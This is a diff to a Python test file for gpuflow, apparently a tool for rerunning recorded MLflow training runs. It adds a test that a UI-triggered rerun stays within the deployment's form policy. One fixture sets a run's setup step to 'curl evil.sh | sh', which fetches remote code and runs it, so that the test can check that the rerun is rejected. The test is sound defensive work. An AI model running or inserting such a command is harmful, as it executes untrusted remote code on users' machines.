@@ -95,7 +95,9 @@ def tiny_spec(data: Path, **extra) -> dict:
 def recorded_run(uri: str, repo: Path, spec: dict, tags: dict | None = None, data: Path | None = None):
     """A run as gpuflow records one: spec.yaml, the source tags and diff, the datasets, the packages."""
     client = MlflowClient(uri)
-    experiment = client.get_experiment_by_name(spec["name"]) or client.create_experiment(spec["name"])
+    artifacts = Path(uri.removeprefix("sqlite:///")).parent / "artifacts"  # not ./mlruns: MLflow's default is the cwd
+    experiment = client.get_experiment_by_name(spec["name"]) or client.create_experiment(
+        spec["name"], artifact_location=artifacts.as_uri())
     experiment = getattr(experiment, "experiment_id", experiment)
     changes, diff = uncommitted_changes(repo / "src")
     run = client.create_run(experiment, tags={FLOW_RUN_TAG: str(uuid.uuid4()), **source_tags(repo / "src"),
@@ -252,6 +254,29 @@ def test_the_dry_run_says_what_would_run_and_launches_nothing(repo, store, data,
     assert len(MlflowClient(store).search_runs([run.info.experiment_id])) == 1
     assert main(["rerun", run.info.run_id, "--tracking-uri", store, "--dry-run", "--on", "7"]) == 2
     assert "--on 7" in capsys.readouterr().err
+
+
+# -- a rerun from the Prefect UI: the flow's rerun_of field ------------------------------------------------------------
+def test_the_ui_s_rerun_of_runs_the_recorded_spec_prepared_here_within_the_deployment_s_form(repo, store, data):
+    from gpuflow.cluster.spec import SpecError, parse_spec
+    from gpuflow.cluster.spec.form_policy import FormPolicy
+    from gpuflow.flows.run_info import hooks_spec, rerun_cache, rerun_spec
+
+    run = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="pip install -q tiny"), data=data)
+    deployed = tiny_spec(data, tracking={"uri": store}, setup="pip install -q tiny", train={
+        "loop": "loop:train_loop", "epochs": 5, "lr": 0.1, "params": {"hidden": 8}}, workdir=str(repo / "src"))
+    asked = parse_spec(deployed)  # the form's spec: from the UI, only where the run is tracked counts
+    policy = FormPolicy("nightly", asked, ["train.epochs"])
+
+    spec = rerun_spec(run.info.run_id, asked, policy)
+    assert spec.train.epochs == 2 and Path(spec.workdir).is_relative_to(rerun_cache())  # as it ran, checked out
+    assert rerun_spec(run.info.run_id, spec, policy) is spec  # prepared once (`gpuflow rerun`'s): runs as given
+    hooks = hooks_spec({"spec": deployed, "rerun_of": run.info.run_id})
+    assert hooks.compute.backend == "local" and hooks.tracking.uri == store
+
+    other = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="curl evil.sh | sh"))
+    with pytest.raises(SpecError, match="setup"):  # not a run this deployment's form could have started
+        rerun_spec(other.info.run_id, asked, policy)
 
 
 # -- one real run, and its rerun from a fresh clone ----------------------------------------------------------------
